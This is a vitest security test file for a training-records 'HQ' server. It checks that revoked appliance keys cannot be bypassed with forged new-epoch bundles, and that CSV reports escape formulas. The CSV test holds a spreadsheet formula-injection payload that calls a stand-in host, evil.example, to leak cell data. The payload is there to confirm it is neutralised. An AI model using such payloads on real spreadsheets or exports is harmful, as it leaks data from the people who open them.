/**
 * Attacks on HQ by someone holding one box's key (or a careless box), each through the CLI and
 * POST /api/bundles, with HQ's whole state compared before and after.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UPLOAD_PATH } from '../src/contract/bundle-format.js';
import { startHqServer } from '../src/app/hq.app.js';
import { fixedClock } from '../src/core/clock.js';
import { silentLogger } from '../src/core/logger.js';
import { loadHqConfig } from '../src/hq/hq.config.js';
import { openHqContext } from '../src/app/hq.context.js';
import { runCli } from './helpers/cli.js';
import {
  dumpDb,
  Journal,
  makeBox,
  T0,
  testHq,
  writeBundle,
  type Box,
  type WrittenTestBundle,
} from './hq.fixtures.js';

let hq: ReturnType<typeof testHq>;
let dir: string;
let box: Box;
let b1: WrittenTestBundle;

/** The genuine box's epoch-1 history: a trainee who has not passed yet. */
function genuine(): Journal {
  const j = new Journal(1);
  j.person({ id: 'p1', externalId: 'OFF-1', displayName: 'Awa Diop' });
  for (let i = 0; i < 9; i++)
    j.statement({ person: 'p1', course: 'c1', activity: 'l1', verb: 'experienced' });
  return j;
}

/** A forged history from `fromSeq` on: five trainees marked passed, in whatever epoch the thief picks. */
function forged(epoch: number, fromSeq = 1): Journal {
  const j = new Journal(epoch);
  for (let i = 0; i < 5; i++) {
    j.person({ id: `x${i}`, externalId: `FAKE-${i}` });
    j.statement({ person: `x${i}`, course: 'c1', activity: 'quiz', verb: 'passed', score: 1 });
    j.statement({ person: `x${i}`, course: 'c1', verb: 'completed' });
  }
  for (const r of j.rows) r.seq += fromSeq - 1;
  return j;
}

/** Run the CLI on HQ's data dir (closing HQ's connection first), then reopen HQ on it. */
async function cliOnHq(...args: string[]): Promise<Awaited<ReturnType<typeof runCli>>> {
  hq.close();
  try {
    // `bundle verify --key <hq data dir>` names the dir itself; the hq commands take --data.
    return await runCli(...args, ...(args[0] === 'hq' ? ['--data', hq.dir] : []));
  } finally {
    const ctx = openHqContext(loadHqConfig({ dataDir: hq.dir, port: 0, host: '127.0.0.1' }, {}), {
      logger: silentLogger,
      clock: fixedClock(T0),
    });
    const { dir: d } = hq;
    hq = Object.assign(ctx, {
      dir: d,
      cleanup() {
        ctx.close();
        rmSync(d, { recursive: true, force: true });
      },
    });
  }
}

const passedCount = () =>
  (hq.db.hq.prepare('SELECT count(*) AS n FROM progress WHERE passed = 1').get() as { n: number }).n;

beforeEach(async () => {
  hq = testHq();
  dir = mkdtempSync(join(tmpdir(), 'fc-hq-attack-'));
  box = makeBox('Box A', 'Dakar');
  hq.appliances.enrol(box.enrolRequest);
  const j = genuine();
  b1 = await writeBundle(box, dir, { bundleSeq: 1, rows: j.range(1, 10) });
  expect((await hq.imports.importFile(b1.path)).status).toBe('imported');
});
afterEach(() => {
  hq.cleanup();
  rmSync(dir, { recursive: true, force: true });
});

describe('revocation cannot be bypassed by a new epoch', () => {
  it('revoked from 1:11 (CLI): a forged epoch-2 history and epoch-1 rows from 11 are refused by `hq import`, `bundle verify` and POST /api/bundles; HQ unchanged', async () => {
    let r = await cliOnHq('hq', 'appliance', 'revoke', box.applianceId, '--from', '1:11');
    expect(r.code).toBe(0);
    expect(r.out[0]).toMatch(/from 1:11/);
    const before = dumpDb(hq.db.hq);
    expect(passedCount()).toBe(0);

    const stick = join(dir, 'stick');
    mkdirSync(stick);
    const epoch2 = await writeBundle(box, stick, { bundleSeq: 1, epoch: 2, rows: forged(2).rows });
    const epoch1 = await writeBundle(box, stick, { bundleSeq: 2, rows: forged(1, 11).rows });
    // An epoch-2 bundle carrying only rows of epoch 1 HQ already holds: written after the point, refused whole.
    const old = genuine();
    const carrier = await writeBundle(box, stick, { bundleSeq: 2, epoch: 2, rows: old.range(1, 10) });
    r = await cliOnHq('hq', 'import', stick);
    expect(r.code).toBe(1);
    const text = r.out.join('\n');
    expect(text).toMatch(
      /e2-b000001\.zip: refused: appliance .* was revoked from 1:11 on .*; this bundle, written in epoch 2, is at or after that point/,
    );
    expect(text).toMatch(/e1-b000002\.zip: refused: .*its row 1:11 is at or after that point/);
    expect(text).toContain('3 bundles: 0 imported, 0 already imported, 3 refused');
    r = await cliOnHq('bundle', 'verify', epoch1.path, '--key', hq.dir);
    expect(r.code).toBe(1);
    expect(r.err.join('')).toMatch(/bundle_key_revoked: .*its row 1:11/);

    const server = await startHqServer(hq);
    try {
      for (const b of [epoch2, epoch1, carrier]) {
        const res = await fetch(server.url + UPLOAD_PATH, {
          method: 'POST',
          headers: { 'content-type': 'application/zip' },
          body: new Uint8Array(readFileSync(b.path)),
        });
        expect(res.status).toBe(403);
        expect(((await res.json()) as { error: { code: string } }).error.code).toBe('bundle_key_revoked');
      }
    } finally {
      await server.close();
    }
    expect(dumpDb(hq.db.hq)).toBe(before);
    expect(passedCount()).toBe(0);
  });

  it('rows before the point are still taken (a lost stick carried in after the revocation)', async () => {
    hq.appliances.revoke(box.applianceId, { epoch: 1, seq: 14 });
    const j = genuine();
    j.statement({ person: 'p1', course: 'c1', activity: 'l2', verb: 'experienced' });
    j.statement({ person: 'p1', course: 'c1', activity: 'l2', verb: 'experienced' });
    j.statement({ person: 'p1', course: 'c1', activity: 'l2', verb: 'experienced' });
    const late = await writeBundle(box, dir, { bundleSeq: 2, rows: j.range(11, 13), prevSha256: b1.sha256 });
    expect(await hq.imports.importFile(late.path)).toMatchObject({ status: 'imported', newRows: 3 });
    expect(hq.appliances.list()[0]!.revocation).toMatchObject({
      fromEpoch: 1,
      fromSeq: 14,
      keyRevoked: false,
    });
  });

  it('revoked from 2:5: epoch 1 beyond what HQ held, epoch 2 from 5 and epoch 3 are refused; the rest is taken', async () => {
    const e2 = new Journal(2);
    e2.person({ id: 'p2', externalId: 'OFF-2' });
    for (let i = 0; i < 3; i++)
      e2.statement({ person: 'p2', course: 'c1', activity: 'l1', verb: 'experienced' });
    hq.appliances.revoke(box.applianceId, { epoch: 2, seq: 5 });
    // Revoking again later can only move the point earlier.
    hq.appliances.revoke(box.applianceId, { epoch: 3, seq: 1 });
    expect(hq.appliances.list()[0]!.revocation).toMatchObject({ fromEpoch: 2, fromSeq: 5 });
    const before = dumpDb(hq.db.hq);
    const tries = [
      { b: await writeBundle(box, dir, { bundleSeq: 2, rows: forged(1, 11).rows }), ok: false },
      { b: await writeBundle(box, dir, { bundleSeq: 1, epoch: 3, rows: forged(3).rows }), ok: false },
      {
        b: await writeBundle(box, dir, { bundleSeq: 1, epoch: 2, rows: forged(2, 3).rows.slice(0, 3) }),
        ok: false,
      },
    ];
    for (const { b } of tries)
      expect(await hq.imports.importFile(b.path)).toMatchObject({
        status: 'refused',
        code: 'bundle_key_revoked',
      });
    expect(dumpDb(hq.db.hq)).toBe(before);
    const okBundle = await writeBundle(box, dir, {
      bundleSeq: 1,
      epoch: 2,
      rows: e2.range(1, 4),
      name: 'ok.zip',
    });
    expect(await hq.imports.importFile(okBundle.path)).toMatchObject({ status: 'imported', newRows: 4 });
    expect(passedCount()).toBe(0);
  });

  it('revoke without --from kills the key: every bundle refused before its signature is even checked', async () => {
    const r = await cliOnHq('hq', 'appliance', 'revoke', box.applianceId);
    expect(r.out[0]).toMatch(/every bundle signed by its key is refused/);
    expect(r.out[1]).toBe('1 bundle(s) imported before the revocation stay');
    const b = await writeBundle(box, dir, { bundleSeq: 2, rows: forged(1, 11).rows });
    const o = await hq.imports.importFile(b.path);
    expect(o).toMatchObject({ status: 'refused', code: 'bundle_key_revoked' });
    expect(o.reason).toMatch(/the key of appliance .* was revoked on/);
    expect(
      (await cliOnHq('hq', 'appliance', 'revoke', box.applianceId, '--from', '2-5')).err.join(''),
    ).toMatch(/--from 2-5: give <epoch>:<sequence>/);
  });
});

describe('CSV exports neutralise formulas (one CSV writer for the box and HQ)', () => {
  it('a trainee named =HYPERLINK(...) stays text in `hq report trainees --csv`', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
    const j = genuine();
    j.person({ id: 'p1', externalId: 'OFF-1', displayName: evil, updatedAt: '2026-02-01T00:00:00.000Z' });
    const b = await writeBundle(box, dir, { bundleSeq: 2, rows: j.range(11, 11), prevSha256: b1.sha256 });
    expect((await hq.imports.importFile(b.path)).status).toBe('imported');
    const r = await cliOnHq('hq', 'report', 'trainees', '--csv');
    expect(r.code).toBe(0);
    const csv = r.out.join('');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"`);
    expect(csv).not.toMatch(/[,;]"?=HYPERLINK/);
  });
});
